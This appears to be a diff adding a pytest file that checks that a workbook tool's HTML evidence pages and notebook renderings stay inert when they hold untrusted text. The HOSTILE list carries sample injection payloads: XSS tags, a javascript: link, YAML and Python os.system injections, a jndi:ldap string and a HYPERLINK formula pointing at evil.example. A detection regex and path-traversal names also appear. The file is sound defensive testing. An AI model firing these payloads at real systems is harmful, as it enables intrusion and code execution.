@@ -1,0 +1,139 @@
+"""Pages: a pack is read without running anything, and what a stranger wrote stays text."""
+
+import re
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+from dedl_workbook import evidence, pages, sealing
+from dedl_workbook.case import Case
+from dedl_workbook.findings import Finding, Report, Severity
+from dedl_workbook.steps import Outcome, Verdict
+
+from tests.unit.conftest import make_case
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=https://evil.example/x onerror=alert(1)>",
+    "</td></table></div></body><h1>Passed</h1>",
+    "**bold** [link](javascript:alert(1)) ![](https://evil.example/y.png)",
+    "!!python/object/apply:os.system ['id']",
+    '"; import os; os.system("id") #',
+    '=HYPERLINK("https://evil.example")',
+    "<!-- ",
+    "${jndi:ldap://evil.example}",
+    "{{ 7*7 }}",
+)
+
+
+def fetched_by(page: str) -> list[str]:
+    """Return what a page would run, or ask a network for; text is no matter."""
+    return re.findall(
+        r"<(?:script|iframe|object|embed|link|base|form)\b[^>]*>|<[^>]*\son\w+\s*=[^>]*>"
+        r"|<(?!a\b)[^>]*\s(?:src|href|srcset|data|poster)\s*=\s*[\"']?(?!data:image|#)[^>]*>"
+        r"|<style[^<]*(?:url\(|@import)|javascript:[^<]*\">",
+        page,
+        re.IGNORECASE,
+    )
+
+
+def hostile_case(root: Path, text: str) -> Case:
+    """Return a case in which a stranger's text stands wherever one can get it to."""
+    case = make_case(root, board_reference=text)
+    folder = case.new_attempt("validate")
+    found = Finding("C04", Severity.ERROR, f"metadata/{text}.json", text, text, fix=text)
+    report = Report("delivered", (found,), items=1, files=1, size=1, notes=(text,)).as_json()
+    outcome = Outcome("validate", Verdict.FAILED, text, detail={"report": report})
+    case.record_outcome(folder, outcome, "")
+    (folder / f"file {re.sub('[^a-z]', '', text)} &amp; ' more.txt").write_text(text)
+    sealing.seal(case, folder.name, notebook(text))
+    return case
+
+
+def notebook(text: str) -> nbformat.NotebookNode:
+    v4 = nbformat.v4
+    data: dict[str, Any] = dict.fromkeys(("text/html", "image/svg+xml", "text/plain"), text)
+    data |= {"text/markdown": text, "application/javascript": "alert(1)"}
+    outputs = [
+        v4.new_output("display_data", data),
+        v4.new_output("display_data", {"application/javascript": "alert(2)"}),
+        v4.new_output("display_data", {"text/html": "<p>what comes after is there</p>"}),
+    ]
+    return v4.new_notebook(
+        cells=[v4.new_markdown_cell(text), v4.new_code_cell(text, outputs=outputs)],
+        metadata={"title": text},
+    )
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_page_of_a_pack_runs_or_fetches_anything(root: Path, text: str) -> None:
+    bag = evidence.pack(hostile_case(root, text))
+
+    pages = sorted(bag.path.rglob("*.html"))
+    assert {page.name for page in pages} == {"index.html", "notebook.html"}
+    for page in pages:
+        shown = page.read_text()
+        assert fetched_by(shown) == [], page.name
+        assert "default-src 'none'" in shown
+        assert shown.count("<h1>Passed</h1>") == 0 or page.name == "notebook.html"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_a_stranger_wrote_stands_in_the_index_as_he_wrote_it(root: Path, text: str) -> None:
+    from html.parser import HTMLParser
+
+    class Text(HTMLParser):
+        said = ""
+
+        def handle_data(self, data: str) -> None:
+            self.said += data
+
+    bag = evidence.pack(hostile_case(root, text))
+    page = Text()
+    page.feed((bag.path / "data" / "index.html").read_text())
+
+    assert page.said.count(text) >= 4
+
+
+def test_an_output_can_not_get_out_of_its_place() -> None:
+    for text in (
+        "</div></div></body>",
+        "<table><tr><td>",
+        "<!-- ",
+        "<script>",
+        "<textarea>",
+        "<svg>",
+    ):
+        cleaned = pages.clean(text)
+        opened = re.findall(r"<(\w+)", cleaned)
+        assert sorted(opened) == sorted(re.findall(r"</(\w+)", cleaned)), text
+
+
+def test_what_notebooks_show_stays_whole() -> None:
+    table = '<table><tbody><tr><td style="color:red">1 &lt; 2 &amp; 3</td></tr></tbody></table>'
+    picture = '<svg viewbox="0 0 1 1"><title>map</title><path d="M0 0L1 1"></path></svg>'
+    image = '<img src="data:image/png;base64,iVBORw0KGgo=">'
+
+    for markup in (table, picture, image, '<a href="https://stac.example">there</a>'):
+        assert pages.clean(markup) == markup
+
+
+def test_the_page_of_a_notebook_has_what_came_after_a_hostile_output(tmp_path: Path) -> None:
+    for number, text in enumerate(HOSTILE):
+        file = tmp_path / str(number) / "notebook.ipynb"
+        file.parent.mkdir()
+        nbformat.write(notebook(text), file)
+
+        page = pages.of_notebook(file)
+
+        assert "<p>what comes after is there</p>" in page, text
+        assert "alert(2)" not in page
+
+
+def test_a_ticket_can_not_be_called_a_path(root: Path) -> None:
+    from dedl_workbook.errors import InputError
+
+    for name in ("../x", "/etc/x", "a/b", "..", "a\\b", "a\nb", ""):
+        with pytest.raises(InputError, match="ticket"):
+            make_case(root, ticket=name)
